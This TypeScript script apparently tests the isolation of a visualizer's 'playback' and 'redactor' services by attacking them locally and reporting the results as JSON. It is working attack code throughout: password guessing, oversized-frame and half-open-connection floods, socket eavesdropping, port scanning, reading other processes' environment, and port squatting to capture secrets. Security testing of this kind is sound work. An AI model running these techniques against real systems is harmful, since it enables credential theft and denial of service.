/**
 * Code that runs where the visualizer does, as its user, and wants raw frames or to pass for a neighbour. It attacks the
 * ports in its first two arguments until it gets SIGTERM, or for the seconds in its third, then prints what it has got as
 * JSON. It needs nothing but Node.js.
 */
import { readdirSync, readFileSync } from 'node:fs';
import { connect, createServer, type Socket } from 'node:net';
import { networkInterfaces } from 'node:os';

const [playback = 0, redactor = 0, seconds = 0] = process.argv.slice(2).map(Number);
const got = {
  /** Most bytes that one connection to playback has brought; a handshake has less than 200. */
  bytes: 0,
  /** Ports that it could listen on, and the secrets that clients handed it there. */
  bound: [] as string[],
  said: [] as string[],
  endlessBytes: 0,
  /** Connections that it has held without a handshake. */
  halfOpen: 0,
  /** Unix sockets with an abstract name, which a shared network shares, and most bytes that one has brought. */
  sockets: 0,
  socketBytes: 0,
  /** Ports that it has tried to connect to, of every IPv4 address here, and those that anything listens on. */
  scanned: 0,
  open: [] as number[],
  /** Processes of others that it sees, and those whose memory it could open. */
  seen: [] as string[],
  opened: [] as string[],
};

function greeting(mechanism: string, version: number, isServer = false): Buffer {
  if (version < 3) return Buffer.from([0xff, 0, 0, 0, 0, 0, 0, 0, 1, 0x7f, 1, 2, 0, 0]);
  const bytes = Buffer.alloc(64);
  bytes.set([0xff, 0, 0, 0, 0, 0, 0, 0, 0, 0x7f, 3, 1]);
  bytes.write(mechanism, 12);
  bytes[32] = isServer ? 1 : 0;
  return bytes;
}

const command = (body: string) => Buffer.concat([Buffer.of(4, body.length), Buffer.from(body, 'latin1')]);
const READY = '\x05READY\x0bSocket-Type\0\0\0\x03';
const hello = (user: string, password: string) =>
  `\x05HELLO${String.fromCharCode(user.length)}${user}${String.fromCharCode(password.length)}${password}`;
const SUBSCRIBE = Buffer.of(0, 1, 1);

/** Every way to ask for frames: openly, with guesses, past the guard, and as peers of before there were mechanisms. */
const QUESTIONS = [
  [greeting('NULL', 3), command(`${READY}SUB`), SUBSCRIBE],
  [greeting('NULL', 3), SUBSCRIBE],
  [greeting('PLAIN', 3), command(`${READY}SUB`), SUBSCRIBE],
  ...['', 'noaa', 'secret', '0'.repeat(64)].map(guess => [
    greeting('PLAIN', 3),
    command(hello('noaa', guess)),
    command('\x08INITIATE\x0bSocket-Type\0\0\0\x03SUB'),
    SUBSCRIBE,
  ]),
  [greeting('NULL', 2), Buffer.of(0, 0), SUBSCRIBE],
  [Buffer.of(1, 0), Buffer.of(2, 0, 1)],
];

const ended = new AbortController();
const pause = (ms: number) => new Promise(resolve => setTimeout(resolve, ms));

function dial(port: number): Socket {
  return connect(port, '127.0.0.1').on('error', () => {});
}

async function ask(port: number, question: Buffer[]): Promise<void> {
  const socket = dial(port);
  let bytes = 0;
  socket.on('data', data => {
    bytes += data.length;
    if (port === playback) got.bytes = Math.max(got.bytes, bytes);
  });
  for (const part of question) {
    socket.write(part);
    await pause(20);
  }
  await pause(200);
  socket.destroy();
}

async function sendEndlessly(port: number): Promise<void> {
  const socket = dial(port);
  const header = Buffer.alloc(9, 2);
  header.writeBigUInt64BE(2n ** 30n, 1);
  socket.write(Buffer.concat([greeting('NULL', 3), header]));
  const zeros = Buffer.alloc(2 ** 16);
  for (let bytes = 0; !socket.destroyed && bytes < 2 ** 27; bytes += zeros.length) {
    if (!socket.write(zeros))
      await Promise.race([new Promise(drained => socket.once('drain', drained)), pause(200)]);
    got.endlessBytes = Math.max(got.endlessBytes, socket.bytesWritten);
  }
  socket.destroy();
}

/** Holds this many connections open that never finish a handshake, and opens another for each that is dropped. */
function holdHalfOpen(port: number, count: number): void {
  const open = () => {
    if (ended.signal.aborted) return;
    const socket = connect({ port, host: '127.0.0.1', localAddress: `127.0.1.${1 + (got.halfOpen % 250)}` });
    socket.on('connect', () => {
      got.halfOpen += 1;
    });
    socket.on('error', () => {}).on('close', () => setTimeout(open, 200));
    socket.resume();
  };
  for (let i = 0; i < count; i += 1) open();
}

/** Connects to every Unix socket with an abstract name and listens. */
async function eavesdrop(): Promise<void> {
  const names = readFileSync('/proc/net/unix', 'utf8').match(/@\S+$/gm) ?? [];
  got.sockets = Math.max(got.sockets, names.length);
  for (const name of new Set(names)) {
    let bytes = 0;
    const socket = connect({ path: `\0${name.slice(1)}` });
    socket.on('error', () => {});
    socket.on('data', data => {
      bytes += data.length;
      got.socketBytes = Math.max(got.socketBytes, bytes);
    });
    await pause(5);
    socket.destroy();
  }
}

/** Tries every port of every address of this network. */
async function scan(): Promise<void> {
  const addresses = Object.values(networkInterfaces()).flatMap(all => all ?? []);
  const untried = addresses
    .filter(({ family }) => family === 'IPv4')
    .flatMap(({ address }) => Array.from({ length: 65_535 }, (_, i) => ({ host: address, port: i + 1 })));
  const tryAll = async () => {
    for (let next = untried.pop(); next && !ended.signal.aborted; next = untried.pop()) {
      if ((await isListening(next)) && !got.open.includes(next.port)) got.open.push(next.port);
      got.scanned += 1;
    }
  };
  await Promise.all(Array.from({ length: 64 }, tryAll));
  // A neighbour that was dead when its turn came.
  for (const port of [playback, redactor]) {
    const host = '127.0.0.1';
    while (!ended.signal.aborted && !got.open.includes(port))
      if (await isListening({ host, port })) got.open.push(port);
  }
  got.open.sort((a, b) => a - b);
}

function isListening(at: { host: string; port: number }): Promise<boolean> {
  return new Promise(resolve => {
    const socket = connect(at);
    socket.on('error', () => resolve(false));
    socket.on('connect', () => {
      // A port from which outgoing connections are made can connect to itself.
      resolve(socket.localPort !== socket.remotePort);
      socket.resetAndDestroy();
    });
  });
}

/** Looks for processes of the neighbours, and tries to read their memory and their settings. */
function lookAround(): void {
  for (const pid of readdirSync('/proc').filter(name => /^\d+$/.test(name))) {
    if (Number(pid) === process.pid) continue;
    try {
      const line = readFileSync(`/proc/${pid}/cmdline`, 'utf8').replaceAll('\0', ' ').trim();
      if (!/apps\/(playback|redactor)\/|ffmpeg/.test(line)) continue;
      if (!got.seen.includes(line)) got.seen.push(line);
      readFileSync(`/proc/${pid}/environ`);
      if (!got.opened.includes(line)) got.opened.push(line);
    } catch {
      // Gone, or not ours.
    }
  }
}

/** Listens as a publisher that asks for the secret, and notes what clients hand it. */
function squat(port: number, host: string): void {
  const server = createServer(client => {
    let said = '';
    client
      .on('error', () => {})
      .on('data', bytes => {
        if (said.length > 400) return;
        said += bytes.toString('latin1', 0, 400);
        const [, password] = /HELLO.noaa.([!-~]{64,})/.exec(said) ?? [];
        // Not one of its own guesses.
        if (password && !/^0+$/.test(password) && !got.said.includes(password)) got.said.push(password);
      });
    client.write(greeting('PLAIN', 3, true));
  }).on('error', () => {});
  server.listen(port, host, () => {
    if (!got.bound.includes(`${host}:${port}`)) got.bound.push(`${host}:${port}`);
  });
  ended.signal.addEventListener('abort', () => server.close());
}

process.once('SIGTERM', () => {
  ended.abort();
  process.stdout.write(`${JSON.stringify(got)}\n`, () => process.exit());
});
process.stdout.write('attacking\n');
if (seconds > 0) {
  // On a busy machine the ports take longer than that.
  void Promise.all([pause(seconds * 1000), scan()]).then(() => process.kill(process.pid, 'SIGTERM'));
  // More than a neighbour has descriptors.
  for (const port of [playback, redactor]) holdHalfOpen(port, 4500);
}
while (!ended.signal.aborted) {
  for (const port of [playback, redactor])
    for (const host of ['127.0.0.1', '0.0.0.0', '::']) squat(port, host);
  lookAround();
  await eavesdrop();
  await Promise.all(
    [playback, redactor].flatMap(port => [
      ...QUESTIONS.map(question => ask(port, question)),
      sendEndlessly(port),
    ]),
  );
}
